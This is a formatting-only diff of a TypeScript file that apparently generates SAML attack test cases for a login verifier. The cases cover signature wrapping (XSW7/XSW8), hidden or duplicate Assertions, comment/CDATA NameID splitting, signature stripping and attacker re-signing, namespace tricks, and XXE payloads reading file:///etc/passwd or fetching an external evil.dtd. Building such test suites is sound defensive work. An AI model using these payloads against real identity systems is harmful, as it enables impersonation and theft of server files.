@@ -38,51 +38,66 @@ export function loginAttacks (src: AttackSource): Attack[] {
     // Comments and CDATA: the signature survives (c14n drops comments, CDATA is text); the value
     // must be read whole, never cut at the first text node.
     attack({
-      id: 'comment-in-nameid', family: 'comment/CDATA', readAs: LOOKALIKE,
+      id: 'comment-in-nameid',
+      family: 'comment/CDATA',
+      readAs: LOOKALIKE,
       title: `NameID ${LOOKALIKE} split by a comment after \`${VICTIM}\``,
       xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<!---->${TAIL}`))
     }),
     attack({
-      id: 'cdata-in-nameid', family: 'comment/CDATA', readAs: LOOKALIKE,
+      id: 'cdata-in-nameid',
+      family: 'comment/CDATA',
+      readAs: LOOKALIKE,
       title: `NameID ${LOOKALIKE} with its tail in a CDATA section`,
       xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<![CDATA[${TAIL}]]>`))
     }),
     attack({
-      id: 'comment-in-email', family: 'comment/CDATA', readAs: LOOKALIKE,
+      id: 'comment-in-email',
+      family: 'comment/CDATA',
+      readAs: LOOKALIKE,
       title: 'email claim split by a comment',
       xml: edit(lookalike(), (_d, root) => emailValues(root).forEach((v) => setContent(v, `${VICTIM}<!---->${TAIL}`)))
     }),
     attack({
-      id: 'cdata-in-email', family: 'comment/CDATA', readAs: LOOKALIKE,
+      id: 'cdata-in-email',
+      family: 'comment/CDATA',
+      readAs: LOOKALIKE,
       title: 'email claim with its tail in a CDATA section',
       xml: edit(lookalike(), (_d, root) => emailValues(root).forEach((v) => setContent(v, `${VICTIM}<![CDATA[${TAIL}]]>`)))
     }),
     attack({
-      id: 'pi-in-nameid', family: 'comment/CDATA', keepsGenuineSignature: false,
+      id: 'pi-in-nameid',
+      family: 'comment/CDATA',
+      keepsGenuineSignature: false,
       title: 'NameID split by a processing instruction (c14n keeps PIs)',
       xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<?x?>${TAIL}`))
     }),
     attack({
-      id: 'cdata-hides-comment', family: 'comment/CDATA', keepsGenuineSignature: false,
+      id: 'cdata-hides-comment',
+      family: 'comment/CDATA',
+      keepsGenuineSignature: false,
       title: 'NameID with a comment hidden in CDATA (it is text, not a comment)',
       xml: edit(lookalike(), (_d, root) => setContent(first(root, 'NameID'), `${VICTIM}<![CDATA[<!---->]]>${TAIL}`))
     }),
 
     // A second Assertion next to the signed one.
     attack({
-      id: 'unsigned-assertion-before', family: 'extra assertion',
+      id: 'unsigned-assertion-before',
+      family: 'extra assertion',
       title: 'a second, unsigned Assertion (the victim) before the signed one',
       xml: withSigned((signed, root) => root.insertBefore(evilCopy(signed, asVictim), signed))
     }),
     attack({
-      id: 'unsigned-assertion-after', family: 'extra assertion',
+      id: 'unsigned-assertion-after',
+      family: 'extra assertion',
       title: 'a second, unsigned Assertion (the victim) after the signed one',
       xml: withSigned((signed) => insertAfter(evilCopy(signed, asVictim), signed))
     }),
 
     // An Assertion hidden where a careless verifier still finds it by ID.
     attack({
-      id: 'signed-in-extensions', family: 'hidden assertion',
+      id: 'signed-in-extensions',
+      family: 'hidden assertion',
       title: 'the signed Assertion moved into samlp:Extensions, the evil one in its place',
       xml: withSigned((signed, root, doc) => {
         root.insertBefore(evilCopy(signed, asVictim), signed)
@@ -90,12 +105,14 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'evil-in-extensions', family: 'hidden assertion',
+      id: 'evil-in-extensions',
+      family: 'hidden assertion',
       title: 'XSW7 schema-valid: the evil Assertion in samlp:Extensions, the signed one in place',
       xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(evilCopy(signed, asVictim)))
     }),
     attack({
-      id: 'signed-in-advice', family: 'hidden assertion',
+      id: 'signed-in-advice',
+      family: 'hidden assertion',
       title: 'the signed Assertion inside saml:Advice of the evil one',
       xml: withSigned((signed, root, doc) => {
         const evil = evilCopy(signed, asVictim)
@@ -105,7 +122,8 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'signed-in-subject-confirmation-data', family: 'hidden assertion',
+      id: 'signed-in-subject-confirmation-data',
+      family: 'hidden assertion',
       title: 'the signed Assertion inside the evil one\'s SubjectConfirmationData',
       xml: withSigned((signed, root) => {
         const evil = evilCopy(signed, asVictim)
@@ -114,7 +132,8 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'original-in-ds-object', family: 'hidden assertion',
+      id: 'original-in-ds-object',
+      family: 'hidden assertion',
       title: 'XSW8 with a real ds:Object: the evil Assertion keeps the signature, the original is in ds:Object',
       xml: withSigned((evil, _root, doc) => {
         const original = unsignedCopy(evil)
@@ -124,7 +143,9 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'evil-in-signed-advice', family: 'hidden assertion', keepsGenuineSignature: false,
+      id: 'evil-in-signed-advice',
+      family: 'hidden assertion',
+      keepsGenuineSignature: false,
       title: 'the evil Assertion inside the signed one\'s Advice',
       xml: withSigned((signed, _root, doc) => {
         const advice = doc.createElementNS(NS.saml, 'Advice')
@@ -135,92 +156,117 @@ export function loginAttacks (src: AttackSource): Attack[] {
 
     // The signature moved, stripped, re-signed.
     attack({
-      id: 'signature-moved-to-response', family: 'signature',
+      id: 'signature-moved-to-response',
+      family: 'signature',
       title: 'the Assertion\'s signature moved up to the Response',
       xml: withSigned((signed, root) => insertAfter(remove(signatureOf(signed)), child(root, NS.saml, 'Issuer')))
     }),
     attack({
-      id: 'signature-moved-to-subject', family: 'signature',
+      id: 'signature-moved-to-subject',
+      family: 'signature',
       title: 'the Assertion\'s signature moved into its Subject',
       xml: withSigned((signed) => child(signed, NS.saml, 'Subject').appendChild(remove(signatureOf(signed))))
     }),
     attack({
-      id: 'signature-stripped', family: 'signature', keepsGenuineSignature: false,
+      id: 'signature-stripped',
+      family: 'signature',
+      keepsGenuineSignature: false,
       title: 'signature removed, NameID changed to the victim',
       xml: strippedForVictim()
     }),
     attack({
-      id: 'resigned-attacker-keyinfo', family: 'signature', keepsGenuineSignature: false,
+      id: 'resigned-attacker-keyinfo',
+      family: 'signature',
+      keepsGenuineSignature: false,
       title: 'victim Assertion re-signed with the attacker\'s key, its certificate in KeyInfo',
       xml: sign(strippedForVictim(), 'assertion', { signer: 'attacker', keyInfo: true })
     }),
     attack({
-      id: 'resigned-attacker-keyinfo-response', family: 'signature', keepsGenuineSignature: false, env: RESPONSE_ONLY,
+      id: 'resigned-attacker-keyinfo-response',
+      family: 'signature',
+      keepsGenuineSignature: false,
+      env: RESPONSE_ONLY,
       title: 'unsigned victim Assertion in a Response re-signed with the attacker\'s key (KeyInfo)',
       xml: sign(strippedForVictim(), 'root', { signer: 'attacker', keyInfo: true })
     }),
     attack({
-      id: 'resigned-hmac-idp-certificate', family: 'signature', keepsGenuineSignature: false,
+      id: 'resigned-hmac-idp-certificate',
+      family: 'signature',
+      keepsGenuineSignature: false,
       title: 'victim Assertion "signed" with HMAC-SHA1 keyed by the IdP\'s public certificate',
       xml: sign(strippedForVictim(), 'assertion', { hmacKey: src.idpCert })
     }),
     attack({
-      id: 'sha1-signature', family: 'signature',
+      id: 'sha1-signature',
+      family: 'signature',
       title: 'SHA-1 re-signing: RSA-SHA1 and a SHA-1 digest (by the IdP\'s own key)',
       xml: genuine({ algorithm: 'sha1' })
     }),
     attack({
-      id: 'sha1-digest-only', family: 'signature',
+      id: 'sha1-digest-only',
+      family: 'signature',
       title: 'RSA-SHA256 over a SHA-1 digest (by the IdP\'s own key)',
       xml: sign(withSigned((signed) => remove(signatureOf(signed))), 'assertion', { digest: 'sha1' })
     }),
 
     // DOCTYPE: refused before any parser sees it.
     attack({
-      id: 'doctype-internal-entity', family: 'DOCTYPE', keepsGenuineSignature: false,
+      id: 'doctype-internal-entity',
+      family: 'DOCTYPE',
+      keepsGenuineSignature: false,
       title: `internal entity completing the NameID (${VICTIM}&tail;)`,
       xml: withDoctype(lookalike(), `<!DOCTYPE samlp:Response [<!ENTITY tail "${TAIL}">]>`,
         (x) => x.replace(`>${LOOKALIKE}</NameID>`, `>${VICTIM}&tail;</NameID>`))
     }),
     attack({
-      id: 'doctype-external-entity', family: 'DOCTYPE',
+      id: 'doctype-external-entity',
+      family: 'DOCTYPE',
       title: 'external entity file:///etc/passwd in an unsigned StatusMessage',
       xml: withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', statusMessage('&xxe;'))
     }),
     attack({
-      id: 'doctype-parameter-entity', family: 'DOCTYPE',
+      id: 'doctype-parameter-entity',
+      family: 'DOCTYPE',
       title: 'external parameter entity (out-of-band XXE)',
       xml: withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>')
     }),
     attack({
-      id: 'doctype-billion-laughs', family: 'DOCTYPE',
+      id: 'doctype-billion-laughs',
+      family: 'DOCTYPE',
       title: 'billion laughs (lol9) in an unsigned StatusMessage',
       xml: withDoctype(genuine(), billionLaughs('samlp:Response'), statusMessage('&lol9;'))
     }),
     attack({
-      id: 'doctype-utf16', family: 'DOCTYPE',
+      id: 'doctype-utf16',
+      family: 'DOCTYPE',
       title: 'DOCTYPE in a UTF-16 document (hidden from a UTF-8 scan)',
       ...utf16(withDoctype(genuine(), '<!DOCTYPE samlp:Response [<!ENTITY e "x">]>'))
     }),
 
     // Namespaces: the same local names in other namespaces, a look-alike ds namespace, new prefixes.
     attack({
-      id: 'ns-saml1-assertion-before', family: 'namespace',
+      id: 'ns-saml1-assertion-before',
+      family: 'namespace',
       title: 'evil Assertion in the SAML 1.0 namespace (same local name) before the signed one',
       xml: withSigned((signed, root) => root.insertBefore(inNamespace(evilCopy(signed, asVictim), NS.saml, SAML1_ASSERTION_NS), signed))
     }),
     attack({
-      id: 'ns-unqualified-assertion-before', family: 'namespace',
+      id: 'ns-unqualified-assertion-before',
+      family: 'namespace',
       title: 'evil Assertion in no namespace (xmlns="") before the signed one',
       xml: withSigned((signed, root) => root.insertBefore(inNamespace(evilCopy(signed, asVictim), NS.saml, ''), signed))
     }),
     attack({
-      id: 'ns-saml1-assertion-in-extensions', family: 'namespace', readAs: ATTACKER,
+      id: 'ns-saml1-assertion-in-extensions',
+      family: 'namespace',
+      readAs: ATTACKER,
       title: 'evil SAML 1.0-namespace Assertion in samlp:Extensions (schema-valid), the signed one in place',
       xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(inNamespace(evilCopy(signed, asVictim), NS.saml, SAML1_ASSERTION_NS)))
     }),
     attack({
-      id: 'ns-signature-lookalike', family: 'namespace', keepsGenuineSignature: false,
+      id: 'ns-signature-lookalike',
+      family: 'namespace',
+      keepsGenuineSignature: false,
       title: 'victim Assertion whose signature is moved to a look-alike ds namespace (…/xmldsig, no #)',
       xml: withSigned((signed) => {
         const signature = signatureOf(signed)
@@ -229,7 +275,9 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'ns-reprefixed-assertion', family: 'namespace', keepsGenuineSignature: false,
+      id: 'ns-reprefixed-assertion',
+      family: 'namespace',
+      keepsGenuineSignature: false,
       title: 'the signed Assertion re-written with a saml: prefix instead of the default namespace',
       xml: reprefixAssertion(genuine())
     }),
@@ -243,12 +291,16 @@ export function loginAttacks (src: AttackSource): Attack[] {
       xml: withSigned((signed, root, doc) => extensionsOf(doc, root).appendChild(decoy(doc, name, signed.getAttribute('ID')!)))
     })),
     attack({
-      id: 'duplicate-id-response', family: 'duplicate ID', keepsGenuineSignature: false,
+      id: 'duplicate-id-response',
+      family: 'duplicate ID',
+      keepsGenuineSignature: false,
       title: 'the (unsigned) Response given the signed Assertion\'s ID',
       xml: withSigned((signed, root) => root.setAttribute('ID', signed.getAttribute('ID')!))
     }),
     attack({
-      id: 'duplicate-id-xsw7-raider', family: 'duplicate ID', keepsGenuineSignature: false,
+      id: 'duplicate-id-xsw7-raider',
+      family: 'duplicate ID',
+      keepsGenuineSignature: false,
       title: 'XSW7 exactly as SAML Raider: the evil copy keeps the signed ID',
       xml: withSigned((signed, root, doc) => {
         const extensions = doc.createElement('Extensions')
@@ -257,7 +309,9 @@ export function loginAttacks (src: AttackSource): Attack[] {
       })
     }),
     attack({
-      id: 'duplicate-id-xsw8-raider', family: 'duplicate ID', keepsGenuineSignature: false,
+      id: 'duplicate-id-xsw8-raider',
+      family: 'duplicate ID',
+      keepsGenuineSignature: false,
       title: 'XSW8 exactly as SAML Raider: the evil Assertion keeps the signed ID',
       xml: withSigned((evil, _root, doc) => {
         const original = unsignedCopy(evil)
